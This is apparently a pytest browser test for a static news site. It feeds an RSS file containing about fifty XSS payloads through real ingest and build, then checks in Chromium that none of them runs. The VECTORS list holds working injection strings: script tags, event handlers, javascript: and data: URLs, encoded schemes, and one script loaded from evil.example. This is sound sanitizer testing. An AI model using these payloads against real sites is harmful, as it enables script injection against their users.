"""No feed script ever runs: XSS vectors, real ingest and build, every page in Chromium.

Each vector goes into a feed item's title, description, ``content:encoded``
and link. Vectors call ``__hit("vN")`` or ``alert``; an init script turns both
into entries of ``window.__xss``. Pages are opened with CSP bypassed, so a
vector that got through the sanitizer would run and be caught here even
though the site's Content-Security-Policy would also stop it.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import timedelta
from email.utils import format_datetime
from html import escape
from html.parser import HTMLParser
from pathlib import Path

import pytest
from browserkit import serve
from playwright.sync_api import Browser, Route
from sitekit import NOW, Project

pytestmark = pytest.mark.browser

#: ``HIT`` becomes ``__hit("vN")`` for the vector's number N.
VECTORS = [
    "<script>HIT</script>",
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=HIT>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    '<img src="x" onerror="HIT">',
    "<svg onload=HIT>",
    "<svg><script>HIT</script></svg>",
    '<svg><a xlink:href="javascript:HIT"><text>x</text></a></svg>',
    "<svg><animate onbegin=HIT attributeName=x dur=1s>",
    "<body onload=HIT>",
    "<details open ontoggle=HIT>",
    "<input autofocus onfocus=HIT>",
    "<video><source onerror=HIT></video>",
    "<marquee onstart=HIT>x</marquee>",
    '<a href="https://ok.example/" onclick="HIT">x</a>',
    '<a href="javascript:HIT">x</a>',
    '<a href="JaVaScRiPt:HIT">x</a>',
    '<a href="&#106;avascript:HIT">x</a>',
    '<a href="&#x6A;&#x61;vascript:HIT">x</a>',
    '<a href="java&#09;script:HIT">x</a>',
    '<a href=" javascript:HIT">x</a>',
    '<a href="data:text/html,<script>HIT</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<div style="width:expression(HIT)">x</div>',
    '<div style="background:url(javascript:HIT)">x</div>',
    '<style>*{background:url("javascript:HIT")}</style>',
    '<iframe srcdoc="<script>parent.HIT</script>"></iframe>',
    '<iframe src="javascript:parent.HIT"></iframe>',
    '<object data="javascript:HIT"></object>',
    '<embed src="javascript:HIT">',
    '<base href="javascript:HIT//">',
    '<meta http-equiv="refresh" content="0;url=javascript:HIT">',
    '<form action="javascript:HIT"><button>x</button></form>',
    "</p></li></ul><script>HIT</script>",
    "</h3></a></li></ol></section></article></main><script>HIT</script>",
    "</script><script>HIT</script>",
    "</title><script>HIT</script>",
    '"><script>HIT</script>',
    "'><img src=x onerror=HIT>",
    "[click](javascript:HIT)",
    "![img](javascript:HIT)",
    "<javascript:HIT>",
    "[x][1]\n\n[1]: javascript:HIT",
    "<!-- unclosed comment swallows the rest",
    "<!--><img src=x onerror=HIT>-->",
    "<math><mtext><table><mglyph><style><img src=x onerror=HIT>",
    '<noscript><p title="</noscript><img src=x onerror=HIT>">',
    "javascript:HIT",
]

#: Runs before any page script: every way a vector reports itself.
SENTINEL = """
window.__xss = [];
window.__hit = (name) => window.__xss.push(String(name));
window.alert = window.confirm = window.prompt = () => window.__xss.push("alert");
"""

#: Every way a page could still carry script: handlers, URLs, risky elements.
INSPECT = """() => {
  const urlAttributes = new Set(["href", "src", "action", "formaction", "data",
    "xlink:href", "poster", "background", "srcset", "srcdoc", "codebase"]);
  const bad = [];
  for (const el of document.querySelectorAll("*")) {
    for (const attr of el.attributes) {
      const name = attr.name.toLowerCase();
      const value = attr.value.replace(/[\\s\\u0000-\\u001f]+/g, "").toLowerCase();
      if (name.startsWith("on")) bad.push(`${el.tagName} ${name}`);
      if (urlAttributes.has(name) && /^(javascript|vbscript|data):/.test(value)) {
        bad.push(`${el.tagName} ${name}=${attr.value}`);
      }
    }
  }
  const risky = "iframe, object, embed, base, frame, applet, style, [style]," +
    " meta[http-equiv=refresh i], body svg script, body math";
  for (const el of document.querySelectorAll(risky)) {
    bad.push(el.outerHTML.slice(0, 80));
  }
  for (const el of document.scripts) {
    const own = el.src.startsWith(location.origin + "/");
    if (!own && el.type !== "application/ld+json") bad.push(el.outerHTML.slice(0, 80));
    if (el.type === "application/ld+json") JSON.parse(el.textContent);
  }
  const csp = document.querySelector('meta[http-equiv="Content-Security-Policy"]');
  return {
    hits: window.__xss,
    bad: bad,
    csp: csp ? csp.content : "",
  };
}"""


def vector(number: int) -> str:
    """Vector ``number`` with its sentinel call filled in."""
    return VECTORS[number].replace("HIT", f'__hit("v{number}")')


def hostile_feed() -> str:
    """An RSS feed with every vector in a title, description, content and link."""
    items = []
    for number in range(len(VECTORS)):
        text = vector(number)
        published = format_datetime(NOW - timedelta(hours=number))
        items.append(
            f"<item><title>{escape(f'Vector {number} {text}')}</title>"
            f"<link>{escape(text)}</link>"
            f"<guid>https://hostile.example/t/{number}</guid>"
            f"<pubDate>{published}</pubDate>"
            f"<description>{escape(f'<p>Summary {number} {text}</p>')}</description>"
            "</item>"
            f"<item><title>Content {number} of the hostile feed</title>"
            f"<link>https://hostile.example/c/{number}</link>"
            f"<pubDate>{published}</pubDate>"
            f"<content:encoded>{escape(f'Body {number} {text}')}</content:encoded>"
            "</item>"
        )
    return (
        '<?xml version="1.0" encoding="utf-8"?><rss version="2.0" '
        'xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel>'
        "<title>Hostile</title><link>https://hostile.example/</link>"
        f"<description>x</description>{''.join(items)}</channel></rss>"
    )


class _Attributes(HTMLParser):
    """Collect the name of every attribute of every tag in a page."""

    def __init__(self) -> None:
        super().__init__()
        self.names: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note each attribute name of a start tag."""
        self.names += [f"{tag} {name}" for name, _value in attrs]


@dataclass(frozen=True)
class Report:
    """What the browser found on one page."""

    hits: list[str]
    bad: list[str]
    csp: str


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Project:
    """A site built by real ingest and build from the hostile feed."""
    project = Project(tmp_path_factory.mktemp("xss"))
    project.add_outlet("hostile", [], lean="Center")
    (project.root / "feeds" / "hostile.xml").write_text(
        hostile_feed(), encoding="utf-8"
    )
    project.ingest()
    project.build()
    return project


@pytest.fixture(scope="module")
def pages(site: Project) -> list[Path]:
    """Every built HTML page, relative to output/."""
    found = sorted(p.relative_to(site.output) for p in site.output.rglob("*.html"))
    assert len(found) > 10
    return found


@pytest.fixture(scope="module")
def reports(
    site: Project, pages: list[Path], browser: Browser
) -> Iterator[dict[Path, Report]]:
    """Open every page in one Chromium tab and inspect it."""
    outside: list[str] = []

    def local_only(route: Route) -> None:
        """Let the site's own files through; note and refuse anything else."""
        if route.request.url.startswith(origin):
            route.continue_()
        else:
            outside.append(route.request.url)
            route.abort()

    with serve(site.output) as origin:
        context = browser.new_context(bypass_csp=True)
        context.add_init_script(SENTINEL)
        context.route("**/*", local_only)
        tab = context.new_page()
        tab.on("dialog", lambda dialog: dialog.dismiss())
        found = {}
        for page in pages:
            tab.goto(f"{origin}/{page.as_posix()}", wait_until="load")
            found[page] = Report(**tab.evaluate(INSPECT))
        context.close()
    assert outside == []
    yield found


@pytest.mark.parametrize("number", range(len(VECTORS)))
def test_vector_reaches_a_page_and_never_runs(
    number: int, site: Project, reports: dict[Path, Report]
) -> None:
    marker = re.compile(rf"(Vector|Summary|Body) {number}\b")
    shown = [
        page
        for page in reports
        if marker.search((site.output / page).read_text(encoding="utf-8"))
    ]
    assert shown, f"vector {number} never reached a page"
    ran = [page for page, report in reports.items() if f"v{number}" in report.hits]
    assert ran == []


def test_no_page_runs_alert_or_carries_script(reports: dict[Path, Report]) -> None:
    assert len(VECTORS) >= 40
    for page, report in reports.items():
        assert report.hits == [], page
        assert report.bad == [], page
        assert "script-src 'self'" in report.csp, page


def test_no_event_handler_attribute_in_built_html(
    site: Project, pages: list[Path]
) -> None:
    for page in pages:
        parser = _Attributes()
        parser.feed((site.output / page).read_text(encoding="utf-8"))
        handlers = [name for name in parser.names if name.split()[1].startswith("on")]
        assert handlers == [], page
